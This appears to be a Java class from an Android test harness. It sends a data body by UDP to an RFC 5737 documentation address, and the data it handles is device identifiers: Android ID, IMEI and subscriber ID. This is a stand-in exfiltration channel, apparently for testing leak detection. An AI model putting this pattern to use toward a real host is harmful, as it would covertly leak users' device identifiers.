package org.harness.probe.ways;

import android.content.Context;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;

/** Datagrams to an address for documentation (RFC 5737): nobody is there. */
final class Udp implements Way {
    private static final byte[] NOWHERE = {(byte) 198, 51, 100, 7};

    @Override
    public String[] only() {
        return new String[] {"settings.secure.android_id", "tm.getImei", "tm.getSubscriberId"};
    }

    @Override
    public String name() {
        return "udp";
    }

    @Override
    public String send(Context context, String form, byte[] body) throws Exception {
        try (DatagramSocket socket = new DatagramSocket()) {
            socket.send(new DatagramPacket(body, body.length, InetAddress.getByAddress(NOWHERE), 9999));
            return "sent " + body.length;
        }
    }
}
